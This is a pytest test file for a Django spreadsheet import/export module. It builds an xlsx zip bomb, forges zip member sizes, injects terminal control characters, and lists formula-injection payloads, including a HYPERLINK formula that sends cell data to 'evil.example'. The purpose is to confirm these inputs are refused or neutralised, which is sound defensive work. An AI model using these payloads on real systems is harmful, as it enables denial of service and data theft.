"""core/spreadsheets.py: uploads refused before parsing when they would inflate or spread too far; exports that
never run a formula; cells with control characters refused as row errors."""

import io
import struct
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from core import spreadsheets
from core.errors import ValidationFailed
from core.spreadsheets import Column, csv_cell, export_workbook, read_rows, template_workbook

COLUMNS = [Column("name", "姓名"), Column("id_number", "证件号码")]

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="导入" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
    ' Target="worksheets/sheet1.xml"/></Relationships>'
)


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def crafted_xlsx(sheet_data: str, *, dimension: str | None = "A1:B2", padding: int = 0) -> bytes:
    """A minimal xlsx written by hand, as an attacker would: `padding` bytes of one repeated character inside an
    XML comment of the sheet (deflate shrinks them about a thousandfold)."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{sheet_data}</sheetData></worksheet>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _ROOT_RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        if padding:
            head, tail = sheet.split("<sheetData>")
            with z.open("xl/worksheets/sheet1.xml", "w") as member:
                member.write((head + "<!--").encode())
                chunk = b"a" * (1024 * 1024)
                for _ in range(padding // len(chunk)):
                    member.write(chunk)
                member.write(("-->" + "<sheetData>" + tail).encode())
        else:
            z.writestr("xl/worksheets/sheet1.xml", sheet)
    return buf.getvalue()


_GOOD_ROWS = f'<row r="1">{_cell("A1", "姓名")}{_cell("B1", "证件号码")}</row><row r="2">{_cell("A2", "张三")}{_cell("B2", "220102199001011234")}</row>'


def _upload(data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("x.xlsx", data)


def _measured(data: bytes) -> tuple[Exception | None, float, int]:
    """What read_rows raised, how long it took and its peak Python memory."""
    tracemalloc.start()
    started = time.perf_counter()
    raised = None
    try:
        read_rows(_upload(data), COLUMNS)
    except ValidationFailed as exc:
        raised = exc
    elapsed = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return raised, elapsed, peak


def _timed(data: bytes) -> float:
    started = time.perf_counter()
    read_rows(_upload(data), COLUMNS)
    return time.perf_counter() - started


def test_a_hand_written_sheet_reads():
    assert read_rows(_upload(crafted_xlsx(_GOOD_ROWS)), COLUMNS) == [
        (2, {"name": "张三", "id_number": "220102199001011234"})
    ]


def test_a_zip_bomb_is_refused_before_it_is_inflated():
    """About 100 KB of upload declaring 100 MB of XML: refused from the zip's directory alone."""
    bomb = crafted_xlsx(_GOOD_ROWS, padding=100 * 1024 * 1024)
    assert len(bomb) < 200 * 1024
    raised, elapsed, peak = _measured(bomb)
    assert raised is not None and "解压后约100MB" in raised.message and "40MB" in raised.message
    assert raised.details == {"uncompressed_bytes": pytest.approx(100 * 1024 * 1024, rel=0.01), "limit": 40 * 1024**2}
    assert elapsed < 1 and peak < 5 * 1024 * 1024, (elapsed, peak)


def _forge_declared_size(data: bytes, name: str, size: int) -> bytes:
    """The zip with `name`'s uncompressed size rewritten in its local header and in the central directory."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        offset = z.getinfo(name).header_offset
    struct.pack_into("<I", buf, offset + 22, size)
    position = 0
    while True:
        position = buf.index(b"PK\x01\x02", position)
        length = struct.unpack_from("<H", buf, position + 28)[0]
        if bytes(buf[position + 46 : position + 46 + length]) == name.encode():
            struct.pack_into("<I", buf, position + 24, size)
            return bytes(buf)
        position += 4


def test_a_member_that_lies_about_its_size_fails_its_check_instead_of_inflating():
    """zipfile inflates a member to its declared size at most; one that holds more fails its CRC check."""
    honest = crafted_xlsx(_GOOD_ROWS, padding=100 * 1024 * 1024)
    forged = _forge_declared_size(honest, "xl/worksheets/sheet1.xml", 4096)
    raised, _elapsed, peak = _measured(forged)
    assert raised is not None and "无法读取" in raised.message
    assert peak < 5 * 1024 * 1024, peak


def test_a_sheet_declaring_the_whole_grid_is_refused_before_parsing():
    raised, elapsed, _peak = _measured(crafted_xlsx(_GOOD_ROWS, dimension="A1:XFD1048576"))
    assert raised is not None and "1048576行 × 16384列" in raised.message
    assert raised.details == {"rows": 1_048_576, "columns": 16_384}
    assert elapsed < 1


@pytest.mark.parametrize("dimension", [None, "A1:B2"])
def test_a_sheet_whose_data_lies_beyond_its_declared_range_stops_at_the_limit(dimension):
    """No dimension (or a false one) and a cell on the last row of the grid: openpyxl would fill a million rows;
    it stops at MAX_SHEET_ROWS and the upload is refused."""
    far = f'<row r="1048576">{_cell("A1048576", "李四")}{_cell("B1048576", "x")}</row>'
    with pytest.raises(ValidationFailed) as raised:
        _timed(crafted_xlsx(_GOOD_ROWS + far, dimension=dimension))
    assert raised.value.details == {"exceeds": "rows"}


def test_cells_far_to_the_right_are_not_spread_out():
    """Every row carrying a cell in the grid's last column (XFD): rows are cut at MAX_COLUMNS + 1 cells, never
    padded to 16,384 each, so the sheet reads about as fast as without those cells."""

    def sheet(far: bool) -> bytes:
        rows = "".join(
            f'<row r="{i}">{_cell(f"A{i}", "姓名" if i == 1 else "张三")}{_cell(f"B{i}", "证件号码" if i == 1 else "x")}'
            + (_cell(f"XFD{i}", "远") if far else "")
            + "</row>"
            for i in range(1, 2001)
        )
        return crafted_xlsx(rows, dimension=None)

    near, far = _timed(sheet(False)), _timed(sheet(True))
    assert far < 3 * near + 0.5, (near, far)


def test_the_largest_import_fits_the_limits():
    """MAX_ROWS rows of 15 filled columns (an import as large as the platform takes) stay inside the limits:
    measured on 2,000 such rows written by openpyxl and scaled up."""
    sample = 2_000
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("导入")
    ws.append(["姓名", "证件号码", *[f"列{i}" for i in range(13)]])
    for i in range(sample):
        ws.append([f"姓名{i}", f"2201021990{i:08d}", *[f"某某单位某某内容{i}"] * 13])
    buf = io.BytesIO()
    wb.save(buf)
    spreadsheets.check_archive(buf.getvalue())  # raises nothing
    with zipfile.ZipFile(buf) as z:
        declared = sum(m.file_size for m in z.infolist())
    assert declared * spreadsheets.MAX_ROWS / sample < 0.75 * spreadsheets.MAX_UNCOMPRESSED_BYTES
    assert (spreadsheets.MAX_ROWS + 1) * 15 < spreadsheets.MAX_CELLS


def test_cells_with_control_characters_are_row_errors_and_nothing_is_read():
    """XML 1.0 cannot carry C0 characters but carries DEL and the C1 range (U+009B is a terminal's CSI)."""
    rows = (
        f'<row r="1">{_cell("A1", "姓名")}{_cell("B1", "证件号码")}</row>'
        f'<row r="2">{_cell("A2", "张三")}{_cell("B2", "220102199001011234")}</row>'
        f'<row r="3">{_cell("A3", "李&#x9b;31m四")}{_cell("B3", "220102199001011234")}</row>'
        f'<row r="4">{_cell("A4", "王五")}{_cell("B4", "2201&#x7f;02")}</row>'
    )
    with pytest.raises(ValidationFailed) as raised:
        read_rows(_upload(crafted_xlsx(rows, dimension="A1:B4")), COLUMNS)
    assert "第3行“姓名”含有不允许的控制字符(共2处)" in raised.value.message
    assert raised.value.details["errors"] == [
        {"row": 3, "column": "姓名", "reason": "含有不允许的控制字符"},
        {"row": 4, "column": "证件号码", "reason": "含有不允许的控制字符"},
    ]


# --- exports ---------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_every_formula_like_cell_is_exported_as_text():
    data = export_workbook(["姓名", "备注"], [[f, "正常"] for f in FORMULAS] + [[-5, "--"]], "导出")
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(min_row=2))
    # (XML turns the CR into a line feed when the file is read back; the cell is text either way)
    assert [(r[0].value, r[0].data_type) for r in rows[:-1]] == [(f.replace("\r", "\n"), "s") for f in FORMULAS]
    assert (rows[-1][0].value, rows[-1][0].data_type) == (-5, "n")  # numbers stay numbers
    assert rows[-1][1].value == "--"  # text, exactly as stored: no apostrophe in xlsx
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_templates_neutralise_too():
    data = template_workbook([Column("name", "=姓名", example="=1+1")], "模板")
    ws = load_workbook(io.BytesIO(data)).active
    assert [(c.value, c.data_type) for c in ws[1] + ws[2]] == [("=姓名", "s"), ("=1+1", "s")]


def test_csv_cells_get_an_apostrophe():
    assert [csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert csv_cell("张三") == "张三" and csv_cell(-5) == -5


def test_text_stored_before_input_was_checked_does_not_break_an_export():
    """A control character already in the database (stored before it was refused) used to make openpyxl raise and
    the bureau's data report answer 500; it is written as U+FFFD."""
    data = export_workbook(["姓名"], [["张\x01三"], ["李\x1b[31m四"]], "导出")
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws["A"]][1:] == ["张\ufffd三", "李\ufffd[31m四"]
